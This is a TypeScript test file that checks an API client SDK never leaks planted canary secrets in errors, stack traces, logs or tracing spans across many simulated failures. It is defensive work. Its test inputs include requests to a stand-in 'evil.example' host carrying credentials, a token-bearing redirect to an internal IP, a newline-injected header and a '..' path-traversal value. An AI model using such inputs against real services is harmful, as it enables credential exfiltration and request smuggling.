import { inspect } from 'node:util';
import { BasicTracerProvider, InMemorySpanExporter, SimpleSpanProcessor } from '@opentelemetry/sdk-trace-base';
import { APIIntegration, type APIIntegrationOptions, type Auth } from '@safla/sdk/api';
import { SaflaError } from '@safla/sdk/core';
import axios from 'axios';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { json, rejection, serve, type TestServer } from './support/server.js';

/** One for each place, so that a leak says where it comes from. None may be seen anywhere. */
const planted = {
  token: 'cAnArY-token-11',
  apiKey: 'cAnArY-apikey-22',
  clientSecret: 'cAnArY-client-33',
  issued: 'cAnArY-issued-44',
  query: 'cAnArY-query-55',
  body: 'cAnArY-body-66',
  header: 'cAnArY-header-77',
  answer: 'cAnArY-answer-88',
  idempotency: 'cAnArY-idem-99',
};

let server: TestServer;

beforeAll(async () => {
  server = await serve((seen, response) => {
    const { pathname } = new URL(seen.url, 'http://x');
    const secret = { secret: planted.answer, echo: seen.body.toString() };
    const cookie = { 'set-cookie': `sid=${planted.answer}`, 'x-api-key': planted.answer };
    switch (pathname) {
      case '/token':
        return json(response, { access_token: planted.issued, token_type: 'bearer' });
      case '/token/refused':
        return json(response, { error: planted.answer, error_description: planted.clientSecret }, {}, 400);
      case '/token/broken':
        return response.writeHead(200).end(`{"access_token":"${planted.issued}`);
      case '/hang':
        return undefined;
      case '/drop':
        return response.destroy();
      case '/cut':
        response.writeHead(200, { 'content-type': 'text/plain', 'content-length': 1_000 });
        response.write(planted.answer);
        return setTimeout(() => response.destroy(), 10);
      case '/stall':
        return response.write(planted.answer);
      case '/rows':
        return response.end(`{"a":1}\n{"secret":"${planted.answer}`);
      case '/json':
        return response.writeHead(200, { 'content-type': 'application/json' }).end(`{"a":"${planted.answer}"`);
      case '/charset':
        return response.writeHead(200, { 'content-type': 'text/plain;charset=x-none' }).end(planted.answer);
      case '/gzip':
        return response
          .writeHead(200, { 'content-encoding': 'gzip' })
          .end(Buffer.from(`\x1f\x8b\x08${planted.answer}`, 'latin1'));
      case '/large':
        return response.writeHead(200, { 'content-type': 'text/plain' }).end(planted.answer.repeat(500));
      case '/away':
        return response.writeHead(302, { location: `http://10.0.0.1/?token=${planted.answer}` }).end();
      case '/list':
        return json(response, { secret: planted.answer });
      case '/next':
        return json(response, [secret], { link: `<https://u:${planted.answer}@evil.example/>; rel=next` });
    }
    return json(response, secret, cookie, Number(pathname.slice(1)) || 200);
  });
});

afterAll(() => server[Symbol.asyncDispose]());

const document = {
  openapi: '3.1.0',
  paths: {
    '/{id}': {
      post: {
        operationId: 'send',
        parameters: [
          { name: 'id', in: 'path', required: true },
          { name: 'q', in: 'query', style: 'pipeDelimited' },
          { name: 'X-H', in: 'header' },
        ],
        requestBody: { content: { 'multipart/form-data': { schema: { properties: { f: { format: 'binary' } } } } } },
      },
    },
  },
};

const failing = {
  '~standard': { version: 1, vendor: 't', validate: () => ({ issues: [{ message: 'no', path: ['a'] }] }) },
} as const;

/** Every way a call can fail, and what else can be looked at. */
async function failures(
  auth: Auth,
  more: Partial<APIIntegrationOptions> = {},
  baseURL = server.origin,
): Promise<unknown[]> {
  await using api = new APIIntegration({
    baseURL,
    auth,
    headers: { 'x-api-key': planted.apiKey, cookie: `sid=${planted.apiKey}` },
    maxResponseBytes: 2_000,
    policy: { retry: false, breaker: false },
    ...more,
  });
  const query = { token: planted.query, q: planted.query };
  const headers = { 'x-auth-token': planted.header, 'x-note': planted.header };
  const body = { password: planted.body, note: planted.body };
  const send = (path: string, rest: object = {}): Promise<unknown> =>
    rejection(api.request(path, { query, headers, ...rest }));
  const drain = async (path: string, rest: object = {}): Promise<unknown> =>
    rejection(
      (async () => {
        const stream = await api.stream(path, { query, headers, ...rest });
        for await (const _ of stream.records());
      })(),
    );
  const all = [
    await send('/400', { method: 'POST', body }),
    await send('/401', { method: 'PUT', body, idempotencyKey: planted.idempotency }),
    await send('/500'),
    await send('/hang', { timeoutMs: 30, method: 'POST', body }),
    await send('/drop', { method: 'POST', body }),
    await send('/cut'),
    await send('/json'),
    await send('/charset'),
    await send('/gzip'),
    await send('/large'),
    await send('/away'),
    await send('/list', { schema: failing }),
    await send(`https://u:${planted.query}@evil.example/`),
    await send(`https://evil.example/?token=${planted.query}`),
    await send('/x', { headers: { 'x-h': `${planted.header}\n` } }),
    await send('/x', { method: 'POST', body: { note: planted.body, big: 1n } }),
    await send('/{id}', { params: { id: '..' } }),
    await drain('/401', { method: 'POST', body }),
    await drain('/hang', { timeoutMs: 30 }),
    await drain('/stall', { idleTimeoutMs: 30 }),
    await drain('/cut'),
    await drain('/rows'),
    await drain('/large', { maxBytes: 10 }),
    await rejection(api.paginate('/list', { query, headers, items: 'a.b' }).toArray()),
    await rejection(api.paginate('/next', { query, headers }).toArray()),
    await rejection(
      api
        .operations(document)
        .get('send')
        .call({ id: '500', q: planted.query, 'X-H': planted.header, body: { f: 'AAAA', note: planted.body } }),
    ),
    await rejection(
      api
        .operations(document)
        .get('send')
        .call({ id: '1', body: { f: `${planted.body}!` } }),
    ),
    await rejection(
      api
        .operations(document)
        .get('send')
        .call({ id: '1', q: [`${planted.query}|`] }),
    ),
  ];
  return [
    ...all,
    api,
    api.stats(),
    await api.health(),
    api.paginate('/x', { query, headers }),
    [...api.operations(document)],
  ];
}

const shown = (value: unknown): string => {
  const error = value instanceof Error ? `${value.message}\n${value.stack}\n${String(value)}` : '';
  return `${inspect(value, { depth: Number.POSITIVE_INFINITY, showHidden: false })}\n${JSON.stringify(value)}\n${error}`;
};

const leaks = (values: readonly unknown[]): string[] =>
  values.flatMap((value, index) =>
    Object.entries(planted)
      .filter(([, secret]) => shown(value).includes(secret))
      .map(([name]) => `${name} in #${index}`),
  );

const oauth = (path: string): Auth => ({
  type: 'oauth2',
  tokenURL: `${server.origin}${path}`,
  clientId: 'me',
  clientSecret: planted.clientSecret,
});

describe('no secret is seen', () => {
  const ways: [string, () => Promise<unknown[]>][] = [
    ['with a token', () => failures(planted.token)],
    ['with basic credentials', () => failures({ type: 'basic', username: 'me', password: planted.token })],
    ['with a header', () => failures({ type: 'header', name: 'X-Key', value: planted.token })],
    ['with a function', () => failures(({ rejected }) => planted.token + String(rejected))],
    ['with OAuth', () => failures(oauth('/token'))],
    ['with OAuth that is refused', () => failures(oauth('/token/refused'))],
    ['with OAuth that is broken', () => failures(oauth('/token/broken'))],
    [
      'with a ready client',
      () => failures(planted.token, { client: axios.create({ headers: { 'X-Other-Key': planted.apiKey } }) }),
    ],
    ['with other origins allowed', () => failures(planted.token, { security: { allow: ['http://*', 'https://*'] } })],
    ['with a cache', () => failures(planted.token, { cache: { heuristicMs: 60_000 } })],
    ['without a server', () => failures(planted.token, {}, 'http://127.0.0.1:1')],
  ];

  it.each(ways)('in message, stack, inspect and JSON, %s', async (_, run) => {
    const values = await run();
    expect(values.filter((value) => SaflaError.is(value))).toHaveLength(28);
    expect(leaks(values)).toEqual([]);
  });

  it('in logs and spans, whichever way', async () => {
    const exporter = new InMemorySpanExporter();
    const provider = new BasicTracerProvider({ spanProcessors: [new SimpleSpanProcessor(exporter)] });
    const records: unknown[] = [];
    const log = (facts: object, message?: string): number => records.push([facts, message]);
    const telemetry = { logger: { debug: log, info: log, warn: log, error: log }, tracer: provider.getTracer('t') };
    for (const auth of [planted.token, oauth('/token'), oauth('/token/refused')]) await failures(auth, { telemetry });
    const spans = exporter
      .getFinishedSpans()
      .map(({ name, attributes, status, events, links }) => ({ name, attributes, status, events, links }));
    expect(records.length).toBeGreaterThan(40);
    expect(spans.length).toBeGreaterThan(40);
    expect(leaks([...records, ...spans])).toEqual([]);
    await provider.shutdown();
  });
});
